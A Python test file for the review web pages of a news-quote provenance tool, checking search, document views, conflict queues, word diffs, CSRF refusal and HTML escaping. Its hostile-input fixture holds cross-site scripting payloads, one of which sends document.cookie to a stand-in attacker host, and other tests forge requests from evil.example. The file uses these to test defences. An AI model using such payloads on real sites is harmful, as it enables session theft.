"""The review pages of ``provenance serve`` through Starlette's TestClient."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from starlette.testclient import TestClient
from typer.testing import CliRunner

from provenance.browse import MAX_LIMIT
from provenance.cli import app as cli
from provenance.ingest import ingest
from provenance.store import Store
from provenance.verify import verify
from provenance.web import create_app
from tests.support import SAMPLES

ORIGIN = {"origin": "http://testserver"}

HOSTILE = """Riverton council hears from residents

<script>alert('owned')</script> was pasted into the minutes, and a reader sent
<a href="javascript:alert(1)">this link</a> to the newsroom.

“<script>document.location='https://evil.example/?c='+document.cookie</script> is not what I \
said,” Councillor Dana Whitfield said on Tuesday. “Read the <b>minutes</b> again.”
"""


@pytest.fixture
def demo(store: Store) -> Store:
    report = ingest(store, [SAMPLES])
    assert report.ok and report.new >= 6
    return store


@pytest.fixture
def client(demo: Store) -> Iterator[TestClient]:
    with TestClient(create_app(demo)) as c:
        yield c


def _ids(html: str, kind: str) -> list[str]:
    return re.findall(rf'href="/{kind}/([0-9a-f]+)', html)


def test_home_counts_use_the_stats_vocabulary(client: TestClient, demo: Store) -> None:
    html = client.get("/").text
    with demo.session() as s:
        from provenance.store import stats

        counts = stats(s)
    assert f"<th>quotes</th><td>{counts.quotes}</td>" in html
    assert f"<th>speakers</th><td>{counts.speakers}</td>" in html
    assert f"nonspeech</th><td>{counts.nonspeech}</td>" in html


@pytest.mark.parametrize(
    ("query", "expect", "status"),
    [
        ("Ramirez", "Alicia Ramírez", 200),  # accent-folded spelling finds the person
        ("Gov. Ramires", "Alicia Ramírez", 200),  # a misspelling with a title too
        ("Zebulon Quartermaine", "no speaker matches", 404),
    ],
)
def test_speaker_search(client: TestClient, query: str, expect: str, status: int) -> None:
    r = client.get("/speakers", params={"q": query})
    assert r.status_code == status and expect in r.text


def test_speakers_page_shows_counts_aliases_and_pages(client: TestClient) -> None:
    html = client.get("/speakers").text
    row = re.search(
        r"<tr><td class=\"id\">\d+</td><td><a href=\"/speakers/(\d+)\">Alicia Ramírez"
        r".*?</tr>",
        html,
        re.S,
    )
    assert row and "Ramires" in row.group(0) and re.search(r"<td>[1-9]\d*</td></tr>", row.group(0))
    first = client.get("/speakers", params={"limit": 5}).text
    second = client.get("/speakers", params={"limit": 5, "offset": 5}).text
    assert "next 5" in first and "previous 5" in second
    assert set(_ids(first, "speakers")).isdisjoint(_ids(second, "speakers"))
    capped = client.get("/speakers", params={"limit": 10**6}).text
    assert f"next {MAX_LIMIT}" not in capped or len(_ids(capped, "speakers")) <= MAX_LIMIT


def test_a_speakers_quotes_link_to_documents(client: TestClient) -> None:
    (sid,) = re.findall(r'href="/speakers/(\d+)">Alicia Ramírez', client.get("/speakers").text)
    html = client.get(f"/speakers/{sid}").text
    assert "Alicia Ramírez" in html and _ids(html, "documents") and _ids(html, "quotes")
    assert client.get("/speakers/999999").status_code == 404


def test_document_view_marks_every_span_by_kind_with_its_details(
    client: TestClient, demo: Store
) -> None:
    doc = _ids(client.get("/documents").text, "documents")[0]
    html = client.get(f"/documents/{doc}").text
    marks = re.findall(
        r'<mark class="k-(\w+) r-(\w+)" data-quote="([0-9a-f]+)" title="([^"]*)"', html
    )
    assert {role for _, role, _, _ in marks} >= {"content", "speaker", "cue"}
    assert all("rule: " in t and "confidence " in t for *_, t in marks)
    from provenance.browse import document_view

    with demo.session() as s:
        view = document_view(s, doc)
    assert {q.id for q in view.quotes} == {m[2] for m in marks if m[1] == "content"} | {
        q.id for q in view.quotes if not any(m[2] == q.id and m[1] == "content" for m in marks)
    }
    assert client.get("/documents/ffffffffffff").status_code == 404


def test_clusters_show_each_appearance_with_a_word_diff(client: TestClient) -> None:
    html = client.get("/clusters").text
    assert html.count('class="card"') >= 1
    assert "<th>speaker as reported</th>" in html
    assert "<del>" in html or "<ins>" in html  # the samples report one statement two ways


def test_conflicts_queue_most_confident_first(client: TestClient) -> None:
    html = client.get("/conflicts").text
    scores = [float(x) for x in re.findall(r"· score (\d+) ·", html)]
    assert len(scores) >= 2 and scores == sorted(scores, reverse=True)
    assert html.count('class="side"') >= 2 * len(scores)
    assert client.get("/conflicts", params={"kind": "bogus"}).status_code == 400


def test_article_text_is_escaped(store: Store, tmp_path: Path) -> None:
    (tmp_path / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    assert ingest(store, [tmp_path / "hostile.txt"]).ok
    with TestClient(create_app(store)) as c:
        doc = _ids(c.get("/documents").text, "documents")[0]
        pages = [c.get(f"/documents/{doc}").text]
        pages += [c.get(f"/quotes/{q}").text for q in set(_ids(pages[0], "quotes"))]
        pages += [c.get(f"/trace/{q}").text for q in set(_ids(pages[0], "quotes"))]
        sid = _ids(c.get("/speakers").text, "speakers")
        pages += [c.get(f"/speakers/{s}").text for s in sid]
    assert len(pages) >= 3
    for html in pages:
        assert "<script" not in html and 'href="javascript:' not in html and "<b>" not in html
    assert "&lt;script&gt;alert(&#39;" in pages[0]
    # Inside a highlighted quote too: the mark holds the escaped text, not a tag.
    assert re.search(
        r'<mark class="k-direct r-content"[^>]*>&lt;script&gt;document.location=', pages[0]
    )
    assert "&lt;a href=&#34;javascript:alert(1)&#34;&gt;" in pages[0]


def _review_form(client: TestClient) -> tuple[str, str]:
    doc = _ids(client.get("/documents").text, "documents")[0]
    qid = _ids(client.get(f"/documents/{doc}").text, "quotes")[0]
    html = client.get(f"/quotes/{qid}").text
    (token,) = set(re.findall(r'name="csrf" value="([^"]+)"', html))
    return qid, token


@pytest.mark.parametrize(
    ("headers", "use_token"),
    [
        (ORIGIN, False),  # no token in the form
        ({"origin": "http://evil.example"}, True),  # another site's page
        ({}, True),  # neither Origin nor Referer
        ({"referer": "http://evil.example/x"}, True),
    ],
)
def test_cross_site_posts_are_refused(
    client: TestClient, demo: Store, headers: dict[str, str], use_token: bool
) -> None:
    qid, token = _review_form(client)
    form = {"status": "verified", "by": "Mallory", **({"csrf": token} if use_token else {})}
    r = client.post(f"/quotes/{qid}/review", data=form, headers=headers, follow_redirects=False)
    assert r.status_code == 403
    with demo.session() as s:
        from provenance.review import list_reviews

        assert list_reviews(s) == []


def test_review_round_trip_then_verify_passes(
    client: TestClient, demo: Store, tmp_path: Path
) -> None:
    qid, token = _review_form(client)
    r = client.post(
        f"/quotes/{qid}/review",
        headers=ORIGIN,
        follow_redirects=False,
        data={
            "csrf": token,
            "status": "disputed",
            "by": "Ana Ruiz",
            "note": "Transcript differs.",
            "next": "https://evil.example/",
        },
    )
    assert r.status_code == 303 and r.headers["location"] == f"/quotes/{qid}"
    page = client.get(f"/quotes/{qid}").text
    assert "Transcript differs." in page and 'value="Ana Ruiz"' in page
    flags = re.findall(r'action="/conflicts/([0-9a-f]+)/review"', client.get("/conflicts").text)
    r = client.post(
        f"/conflicts/{flags[0]}/review",
        headers=ORIGIN,
        follow_redirects=False,
        data={"csrf": token, "decision": "dismissed", "by": "Ana Ruiz", "next": "/conflicts"},
    )
    assert r.status_code == 303
    assert "dismissed" in client.get("/conflicts").text
    bad = client.post(
        f"/conflicts/{flags[0]}/review",
        headers=ORIGIN,
        data={"csrf": token, "decision": "maybe", "by": "Ana Ruiz"},
    )
    assert bad.status_code == 400
    nobody = client.post(
        f"/quotes/{qid}/review",
        headers=ORIGIN,
        data={"csrf": token, "status": "verified", "by": " "},
    )
    assert nobody.status_code == 400 and "reviewer name" in nobody.text
    with demo.session() as s:
        assert verify(s).problems == []
    db = demo.url.removeprefix("sqlite:///")
    listed = CliRunner().invoke(cli, ["reviews", "--db", db, "--format", "json"])
    rows = {(r["of"], r["id"]): r for r in json.loads(listed.stdout)}
    assert rows[("quote", qid)]["status"] == "disputed"
    assert rows[("flag", flags[0])]["status"] == "dismissed"
    assert rows[("flag", flags[0])]["by"] == "Ana Ruiz"
    ok = CliRunner().invoke(cli, ["verify", "--db", db])
    assert ok.exit_code == 0 and ok.stdout.startswith("ok:")


def test_serve_refuses_a_missing_database(tmp_path: Path) -> None:
    r = CliRunner().invoke(cli, ["serve", "--db", str(tmp_path / "typo.db")])
    assert r.exit_code == 2 and "no database at" in r.stderr
    assert not (tmp_path / "typo.db").exists()


@pytest.mark.parametrize(
    ("canonical", "reported", "removed", "added"),
    [
        (
            "We will not rest until every family is home,",
            "We will not rest until every family is home.",
            [],
            [],
        ),  # punctuation at the cut is not a difference
        (
            "We will not rest until every family is home,",
            "We will rest only when every family is back home,",
            ["not", "until"],
            ["only when", "back"],
        ),
        (
            "This is the most dangerous fire this department has fought in a generation.",
            "the most dangerous fire this department has fought in a generation",
            ["This is"],
            [],
        ),
    ],
)
def test_word_diff_of_an_appearance(
    canonical: str, reported: str, removed: list[str], added: list[str]
) -> None:
    from provenance.browse import diff_parts

    parts = diff_parts(canonical, reported)
    assert [p.text for p in parts if p.op == "removed"] == removed
    assert [p.text for p in parts if p.op == "added"] == added
    assert " ".join(p.text for p in parts if p.op != "removed") == reported


def test_every_page_and_a_review_on_sqlite_and_postgresql(db_url: str) -> None:
    from provenance.store import open_store

    store = open_store(db_url)
    try:
        assert ingest(store, [SAMPLES]).ok
        with TestClient(create_app(store)) as c:
            home = c.get("/")
            speakers = c.get("/speakers").text
            docs = c.get("/documents").text
            doc = c.get(f"/documents/{_ids(docs, 'documents')[0]}").text
            sid = re.findall(r'href="/speakers/(\d+)">Alicia Ramírez', speakers)[0]
            pages = [
                home,
                c.get(f"/speakers/{sid}"),
                c.get("/speakers?q=Ramirez"),
                c.get("/clusters"),
                c.get("/conflicts"),
            ]
            assert all(p.status_code == 200 for p in pages)
            assert "<del>" in pages[3].text or "<ins>" in pages[3].text
            qid, token = _review_form(c)
            r = c.post(
                f"/quotes/{qid}/review",
                headers=ORIGIN,
                follow_redirects=False,
                data={"csrf": token, "status": "verified", "by": "Ana Ruiz"},
            )
            assert r.status_code == 303 and "verified" in c.get(f"/quotes/{qid}").text
        assert 'class="k-direct r-content"' in doc
        with store.session() as s:
            assert verify(s).problems == []
    finally:
        store.dispose()


def test_reassign_a_speaker_through_the_form_then_verify(client: TestClient, demo: Store) -> None:
    qid, token = _review_form(client)
    (sid,) = re.findall(r'href="/speakers/(\d+)">Marcus Bell', client.get("/speakers").text)
    bad = client.post(
        f"/quotes/{qid}/speaker",
        headers=ORIGIN,
        data={"csrf": token, "speaker": "Zebulon Quartermaine", "by": "Ana"},
    )
    assert bad.status_code == 404 and "no speaker matches" in bad.text
    r = client.post(
        f"/quotes/{qid}/speaker",
        headers=ORIGIN,
        follow_redirects=False,
        data={
            "csrf": token,
            "speaker": "Marcus Bell",
            "by": "Ana Ruiz",
            "note": "The chief said it, not the mayor.",
        },
    )
    assert r.status_code == 303
    page = client.get(f"/quotes/{qid}").text
    assert f'href="/speakers/{sid}">Marcus Bell</a>' in page
    forged = client.post(
        f"/quotes/{qid}/speaker",
        data={"speaker": sid, "by": "Mallory"},
        headers={"origin": "http://evil.example"},
    )
    assert forged.status_code == 403
    with demo.session() as s:
        assert verify(s).problems == []
    db = demo.url.removeprefix("sqlite:///")
    log = CliRunner().invoke(cli, ["log", f"quote:{qid}", "--db", db, "-f", "jsonl"])
    (entry,) = [
        json.loads(x)
        for x in log.stdout.splitlines()
        if json.loads(x)["action"] == "speaker.reassigned"
    ]
    assert entry["actor"] == "person:Ana Ruiz" and entry["payload"]["speaker_id"] == int(sid)


def test_trace_page_shows_the_first_appearance_and_the_drift(client: TestClient) -> None:
    """Issue 17: the trace of the demo's Ramírez misquote, found by its words, in the browser."""
    assert client.get("/trace").status_code == 200  # the empty search form
    html = client.get("/trace", params={"q": "We will not rest until every family is home"}).text
    rows = re.findall(r'<tr id="a-(\d+)">(.*?)</tr>', html, re.S)
    assert len(rows) >= 2 and rows[0][0] == "1" and "first" in rows[0][1]
    changes = re.findall(r'<td class="change">([^<]+)</td>', html)
    assert changes[0] == "identical" and "words substituted" in changes
    assert "<del>not</del>" in html  # "will not rest" became "will rest only when"
    qid = re.search(r'href="/quotes/([0-9a-f]{32})"', html)
    assert qid is not None
    by_id = client.get(f"/trace/{qid.group(1)}").text
    assert by_id.count('<tr id="a-') == len(rows)
    assert client.get("/trace", params={"q": "zzzz qqqq xxxx"}).status_code == 404
